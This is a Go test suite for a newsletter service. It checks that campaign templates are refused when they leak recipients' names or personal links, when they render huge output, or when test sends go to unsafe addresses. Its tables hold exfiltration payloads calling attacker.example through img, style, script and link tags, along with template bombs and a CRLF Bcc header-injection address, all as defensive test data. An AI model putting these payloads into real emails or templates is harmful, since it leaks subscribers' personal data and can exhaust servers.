package web_test

// Attacks through campaigns, by a marketer (a role that must see no
// personal data) or by anyone holding a marketer's account:
//
//   - TestSecurityCampaignMergeFields: merge fields placed to carry a
//     recipient's name or personal links to another site (image and style
//     URLs, parts of links, code, other actions) are refused on create,
//     update (PUT, PATCH and the console form) and schedule, with the
//     field and where it stands; the console shows the form again with the
//     message and the input kept, in English and Russian.
//   - TestSecurityCampaignTemplateBomb: a template that renders tens of
//     megabytes is refused on save, and one stored anyway is not rendered
//     by the preview.
//   - TestSecurityCampaignTestSends: test sends to a domain literal, a
//     named address, a suppressed, blocked, erased, pending or opted-out
//     person get a reason per address and no mail; each admin has a rate
//     limit held in Redis (429 for the API, a message in the console).
//
// The footer that no body can hide is tested in app (with Chromium); a
// template refused at send time, and a message over the cap at send time,
// in jobs.

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"newsletter/app"
)

// recordingTester records the test sends that reach the sender.
type recordingTester struct {
	mu    sync.Mutex
	sends [][]string
}

func (r *recordingTester) SendTest(_ context.Context, _ *app.Campaign, to []string) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.sends = append(r.sends, to)
	return nil
}

func (r *recordingTester) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.sends)
}

// campaignSec is a console and an API whose campaigns test-send to a
// recorder, with the rate limit in the test's own Redis database.
type campaignSec struct {
	*console
	tester   *recordingTester
	camps    *app.Campaigns
	tokens   map[app.Role]string
	sessions map[app.Role]*session
	draft    *app.Campaign
}

func newCampaignSec(t *testing.T) *campaignSec {
	t.Helper()
	ctx := context.Background()
	e := &campaignSec{tester: &recordingTester{}, tokens: map[app.Role]string{}, sessions: map[app.Role]*session{}}
	c := &console{clock: &clock{t: time.Now().UTC()}, passwords: map[app.Role]string{}, emails: map[app.Role]string{}}
	c.fixture = newFixture(t, func(s *setup) {
		e.camps = &app.Campaigns{Store: s.store, Queue: consoleQueue{}, Tester: e.tester, Signer: s.signer, Operator: s.Operator,
			Limiter: s.Limiter}
		s.plugConsole(c, e.camps)
	})
	e.console = c
	for _, r := range []app.Role{app.RoleOwner, app.RoleMarketer} {
		email := string(r) + "@example.com"
		_, err := c.auth.Admins.CreateWithPassword(ctx, email, r, consolePassword)
		must(t, err)
		c.emails[r], c.passwords[r] = email, consolePassword
		e.tokens[r], err = c.auth.Admins.NewToken(ctx, email, "suite")
		must(t, err)
		e.sessions[r] = c.login(t, r)
	}
	var err error
	e.draft, err = e.camps.Create(ctx, nil, app.CampaignInput{Name: "Spring", Subject: "News", Purpose: app.CampaignMarketing,
		BodyHTML: "<p>Hello {{.Name}}</p>"})
	must(t, err)
	return e
}

// api calls the API as role and decodes the answer.
func (e *campaignSec) api(t *testing.T, role app.Role, method, path, body string) (*http.Response, map[string]any) {
	t.Helper()
	req := jsonPost(path, body)
	req.Method = method
	req.Header.Set("Authorization", "Bearer "+e.tokens[role])
	resp, b := e.do(t, req)
	var out map[string]any
	if b != "" {
		if err := json.Unmarshal([]byte(b), &out); err != nil {
			t.Fatalf("%s %s: %d %s", method, path, resp.StatusCode, b)
		}
	}
	return resp, out
}

// field returns a field message of a JSON error.
func field(body map[string]any, name string) string {
	f, _ := body["fields"].(map[string]any)
	s, _ := f[name].(string)
	return s
}

// storeUnchecked stores a draft as an older version could have saved it,
// without the rules of this one.
func (e *campaignSec) storeUnchecked(t *testing.T, bodyHTML string) *app.Campaign {
	t.Helper()
	c := &app.Campaign{Name: "Old", Subject: "Old news", Purpose: app.CampaignMarketing, BodyHTML: bodyHTML, Status: app.CampaignDraft}
	must(t, e.store.CreateCampaign(context.Background(), c))
	return c
}

// exfiltration are templates that would send a recipient's name or
// personal links to another site, with the field and the place the answer
// must name.
var exfiltration = []struct {
	name, html, field, place string
}{
	{"IssueImage", `<p>Hi</p><img src="https://attacker.example/p.gif?n={{.Name}}&p={{.PreferencesURL}}">`, "{{.Name}}", "src attribute of <img>"},
	{"StyleURL", `<div style="background:url('https://attacker.example/{{.Name}}')">x</div>`, "{{.Name}}", "style attribute of <div>"},
	{"StyleSheet", `<style>body{background:url(https://attacker.example/?p={{.PreferencesURL}})}</style>`, "{{.PreferencesURL}}", "inside <style>"},
	{"LinkPart", `<a href="https://attacker.example/?u={{.UnsubscribeURL}}">Offers</a>`, "{{.UnsubscribeURL}}", "only part of the href"},
	{"Prefetch", `<link rel="prefetch" href="{{.PreferencesURL}}">`, "{{.PreferencesURL}}", "href attribute of <link>"},
	{"Srcset", `<img srcset="https://attacker.example/{{.Name}}.png 1x">`, "{{.Name}}", "srcset attribute of <img>"},
	{"Background", `<table background="https://attacker.example/{{.Name}}"><tr><td>x</td></tr></table>`, "{{.Name}}", "background attribute of <table>"},
	{"Script", `<script>new Image().src="https://attacker.example/"+{{.Name}}</script>`, "{{.Name}}", "inside <script>"},
	{"TextLink", `<p>Visit https://attacker.example/?n={{.Name}}</p>`, "{{.Name}}", "joined to a web address"},
	{"Printf", `<img src="https://attacker.example/{{printf "%s" .Name}}">`, "{{printf", "is not allowed"},
	{"With", `{{with .PreferencesURL}}<img src="https://attacker.example/?p={{.}}">{{end}}`, "{{with", "is not allowed"},
	{"Variable", `{{$p := .PreferencesURL}}<img src="https://attacker.example/?p={{$p}}">`, "{{$p", "is not allowed"},
	{"Template", `{{define "x"}}{{.Name}}{{end}}<img src="https://attacker.example/{{template "x" .}}">`, "is not allowed", ""},
	{"Dot", `<img src="https://attacker.example/?d={{.}}">`, "{{.}}", "is not allowed"},
}

// TestSecurityCampaignMergeFields: no placement that carries data away is
// saved, through any route, and the answer names the field and its place.
func TestSecurityCampaignMergeFields(t *testing.T) {
	e := newCampaignSec(t)
	ctx := context.Background()
	mkt := e.sessions[app.RoleMarketer]
	for _, x := range exfiltration {
		t.Run(x.name, func(t *testing.T) {
			body, _ := json.Marshal(map[string]string{"name": "Exfil", "subject": "News", "purpose": "marketing", "body_html": x.html})
			before, err := e.camps.List(ctx, app.CampaignFilter{})
			must(t, err)
			resp, got := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns", string(body))
			msg := field(got, "body_html")
			if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(msg, x.field) || !strings.Contains(msg, x.place) {
				t.Fatalf("create: %d %v", resp.StatusCode, got)
			}
			after, err := e.camps.List(ctx, app.CampaignFilter{})
			must(t, err)
			if len(after) != len(before) {
				t.Fatalf("a refused campaign was stored")
			}
			id := fmt.Sprint(e.draft.ID)
			for _, m := range []string{"PUT", "PATCH"} {
				resp, got = e.api(t, app.RoleMarketer, m, "/api/v1/campaigns/"+id, string(body))
				if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(field(got, "body_html"), x.field) {
					t.Fatalf("%s: %d %v", m, resp.StatusCode, got)
				}
			}
			if cur, _ := e.store.Campaign(ctx, e.draft.ID); cur.BodyHTML != e.draft.BodyHTML {
				t.Fatalf("the draft changed: %q", cur.BodyHTML)
			}
			// The console, in both languages: the form again, with the
			// message and the input.
			for _, lang := range []string{"en", "ru"} {
				form := url.Values{"name": {"Exfil"}, "subject": {"News"}, "purpose": {"marketing"}, "body_html": {x.html}}
				for _, path := range []string{"/admin/campaigns?lang=" + lang, "/admin/campaigns/" + id + "?lang=" + lang} {
					resp, page := e.post(t, mkt, path, form)
					want := map[string]string{"en": "line 1", "ru": "строка 1"}[lang]
					// The default language's body, as the marketer wrote it.
					area := between(page, `id="body_en"`, "</textarea>")
					kept := html.UnescapeString(area[strings.Index(area, ">")+1:])
					if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(page, `class="error"`) ||
						!strings.Contains(page, want) || kept != x.html {
						t.Fatalf("console %s: %d, kept %q\n%.3000s", path, resp.StatusCode, kept, page)
					}
				}
			}
			// A campaign stored before these rules cannot be scheduled,
			// previewed or sent.
			old := e.storeUnchecked(t, x.html)
			oid := fmt.Sprint(old.ID)
			resp, got = e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns/"+oid+"/schedule", `{}`)
			if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(field(got, "body_html"), x.field) {
				t.Fatalf("schedule: %d %v", resp.StatusCode, got)
			}
			if resp, page := e.post(t, mkt, "/admin/campaigns/"+oid+"/schedule?lang=en", url.Values{"when": {"now"}}); resp.StatusCode != http.StatusUnprocessableEntity ||
				!strings.Contains(page, "line 1") {
				t.Fatalf("console schedule: %d %.2000s", resp.StatusCode, page)
			}
			if cur, _ := e.store.Campaign(ctx, old.ID); cur.Status != app.CampaignDraft {
				t.Fatalf("scheduled: %s", cur.Status)
			}
			if resp, page := e.get(t, mkt, "/admin/campaigns/"+oid+"/preview"); resp.StatusCode != http.StatusUnprocessableEntity ||
				strings.Contains(page, `src="https://attacker`) {
				t.Fatalf("preview: %d %.500s", resp.StatusCode, page)
			}
			if resp, _ := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns/"+oid+"/test", `{"to":["me@example.org"]}`); resp.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("test send: %d", resp.StatusCode)
			}
		})
	}
	// The placements the rule allows still save.
	good := `<p>Dear {{.Name}},</p><p><a href="{{.PreferencesURL}}">Your preferences</a> · <a href="{{.UnsubscribeURL}}">Unsubscribe</a></p>`
	body, _ := json.Marshal(map[string]string{"name": "Fine", "subject": "For {{.Name}}", "purpose": "marketing", "body_html": good,
		"body_text": "Dear {{.Name}},\nUnsubscribe: {{.UnsubscribeURL}}"})
	if resp, got := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns", string(body)); resp.StatusCode != http.StatusCreated {
		t.Fatalf("an allowed template: %d %v", resp.StatusCode, got)
	}
}

// TestSecurityCampaignTemplateBomb: templates that render tens of
// megabytes are refused on save, and a stored one is not rendered.
func TestSecurityCampaignTemplateBomb(t *testing.T) {
	e := newCampaignSec(t)
	bombs := map[string]string{
		"Range":       `{{range 200000}}<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>{{end}}`,
		"NestedRange": `{{range 2000}}{{range 2000}}x{{end}}{{end}}`,
		"NameBomb":    "<p>" + strings.Repeat("{{.Name}} ", 25000) + "</p>",
		"TextBomb":    "<p>x</p>",
		"Recursion":   `{{define "a"}}{{template "a" .}}{{end}}{{template "a" .}}`,
	}
	for name, b := range bombs {
		t.Run(name, func(t *testing.T) {
			in := map[string]string{"name": "Bomb", "subject": "S", "purpose": "marketing", "body_html": b}
			want := "body_html"
			if name == "TextBomb" {
				in["body_text"], want = strings.Repeat("{{.Name}} ", 25000), "body_text"
			}
			body, _ := json.Marshal(in)
			resp, got := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns", string(body))
			if resp.StatusCode != http.StatusUnprocessableEntity || field(got, want) == "" {
				t.Fatalf("%d %v", resp.StatusCode, got)
			}
			if name == "NameBomb" && !strings.Contains(field(got, want), "larger than 1.0 MB") {
				t.Fatalf("%v", got)
			}
			if name == "TextBomb" {
				return
			}
			old := e.storeUnchecked(t, b)
			resp, page := e.get(t, e.sessions[app.RoleMarketer], fmt.Sprintf("/admin/campaigns/%d/preview", old.ID))
			if resp.StatusCode != http.StatusUnprocessableEntity || len(page) > 64<<10 {
				t.Fatalf("preview of a stored bomb: %d, %d bytes", resp.StatusCode, len(page))
			}
		})
	}
}

// TestSecurityCampaignTestSends: test sends follow the address rules and
// refusals of campaigns, and are limited per admin.
func TestSecurityCampaignTestSends(t *testing.T) {
	e := newCampaignSec(t)
	ctx := context.Background()
	owner, err := e.auth.Admins.Store.Admins().AdminByEmail(ctx, "owner@example.com")
	must(t, err)
	reader := func(email string, purposes ...app.Purpose) *app.Subscriber {
		s := &app.Subscriber{Email: email, EmailHash: e.svc.Signer.KeyedHash(email), Name: "Reader", Locale: "en", Status: app.StatusActive}
		must(t, e.store.CreateSubscriber(ctx, s))
		for _, p := range purposes {
			must(t, e.store.SetConsent(ctx, s.ID, p, true, time.Now()))
		}
		return s
	}
	all := []app.Purpose{app.PurposeProcessing, app.PurposeMarketing}
	reader("active@example.com", all...)
	blocked := reader("blocked@example.com", all...)
	_, err = e.svc.Block(ctx, owner, blocked.ID, app.BlockInput{Reason: "disputed"})
	must(t, err)
	erased := reader("erased@example.com", all...)
	_, err = e.svc.EraseByOperator(ctx, owner, app.ChannelAdmin, erased.ID, "asked")
	must(t, err)
	reader("optedout@example.com", app.PurposeProcessing)
	pending := &app.Subscriber{Email: "pending@example.com", EmailHash: e.svc.Signer.KeyedHash("pending@example.com"), Name: "P",
		Status: app.StatusPending}
	must(t, e.store.CreateSubscriber(ctx, pending))
	_, err = e.svc.SuppressManually(ctx, owner, "suppressed@example.com", "asked by phone")
	must(t, err)

	id := fmt.Sprint(e.draft.ID)
	refused := map[string]string{
		"x@[127.0.0.1]":                        "not a valid domain name",
		"x@127.0.0.1":                          "not a valid domain name",
		"root@localhost":                       "not a valid domain name",
		"Someone <a@example.org>":              "like name@example.com",
		"a@example.org,b@example.org":          "like name@example.com",
		"a@example.org\r\nBcc: v@example.org":  "like name@example.com",
		"blocked@example.com":                  "does not receive our mail",
		"Erased@Example.com":                   "does not receive our mail",
		"optedout@example.com":                 "does not receive our mail",
		"pending@example.com":                  "does not receive our mail",
		"suppressed@example.com":               "does not receive our mail",
		"\u0441\u0430\u0439\u0442@example.com": "only Latin letters",
	}
	for addr, reason := range refused {
		body, _ := json.Marshal(map[string][]string{"to": {"me@example.org", addr}})
		resp, got := e.api(t, app.RoleOwner, "POST", "/api/v1/campaigns/"+id+"/test", string(body))
		if msg := field(got, "to[1]"); resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(msg, reason) ||
			field(got, "to[0]") != "" {
			t.Errorf("%q: %d %v", addr, resp.StatusCode, got)
		}
	}
	resp, page := e.post(t, e.sessions[app.RoleOwner], "/admin/campaigns/"+id+"/test?lang=ru", url.Values{"to": {"me@example.org, x@[127.0.0.1] suppressed@example.com"}})
	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(page, "x@[127.0.0.1]: Часть адреса после @") ||
		!strings.Contains(page, `value="me@example.org, x@[127.0.0.1] suppressed@example.com"`) {
		t.Fatalf("console: %d %.4000s", resp.StatusCode, page)
	}
	if n := e.tester.count(); n != 0 {
		t.Fatalf("%d test sends reached the sender", n)
	}

	// The rate limit: per admin, in Redis, 429 with Retry-After. (The
	// owner's refusals above were counted: a refusal that tells whether an
	// address is known costs a test, so the limit bounds probing too.)
	for i := range app.CampaignTestsPerHour {
		if resp, got := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns/"+id+"/test", `{"to":["Active@example.com"]}`); resp.StatusCode != http.StatusOK {
			t.Fatalf("test %d: %d %v", i, resp.StatusCode, got)
		}
	}
	resp, got := e.api(t, app.RoleMarketer, "POST", "/api/v1/campaigns/"+id+"/test", `{"to":["me@example.org"]}`)
	if resp.StatusCode != http.StatusTooManyRequests || got["code"] != app.ERATELIMIT || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("over the limit: %d %v", resp.StatusCode, got)
	}
	for _, lang := range []string{"en", "ru"} {
		resp, page = e.post(t, e.sessions[app.RoleMarketer], "/admin/campaigns/"+id+"/test?lang="+lang, url.Values{"to": {"me@example.org"}})
		want := map[string]string{"en": "You have sent many tests in the last hour", "ru": "За последний час отправлено много тестов"}[lang]
		if resp.StatusCode != http.StatusTooManyRequests || !strings.Contains(page, want) {
			t.Fatalf("console over the limit: %d %.3000s", resp.StatusCode, page)
		}
	}
	if n := e.tester.count(); n != app.CampaignTestsPerHour {
		t.Fatalf("%d test sends reached the sender, want %d", n, app.CampaignTestsPerHour)
	}
	// Another admin has a limit of their own.
	if resp, got := e.api(t, app.RoleOwner, "POST", "/api/v1/campaigns/"+id+"/test", `{"to":["me@example.org"]}`); resp.StatusCode != http.StatusOK {
		t.Fatalf("owner: %d %v", resp.StatusCode, got)
	}
	if last := e.tester.sends[len(e.tester.sends)-1]; len(last) != 1 || last[0] != "me@example.org" {
		t.Fatalf("sent to %v", last)
	}
}
